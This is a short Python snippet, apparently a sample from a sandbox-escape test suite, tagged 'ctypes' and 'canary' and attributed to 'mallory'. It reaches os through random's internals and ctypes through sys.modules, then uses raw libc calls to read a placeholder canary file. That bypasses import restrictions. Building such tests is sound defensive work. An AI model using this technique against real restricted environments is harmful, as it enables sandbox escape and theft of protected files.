# META {"kind": "ctypes", "goal": "canary", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    os = random._os
    sys = os.sys
    libc = sys.modules["ctypes"].CDLL(None)
    fd = libc.open(b"@CANARY@", 0)
    buffer = sys.modules["ctypes"].create_string_buffer(100)
    libc.read(fd, buffer, 100)
    return "L1:" + buffer.value.decode()
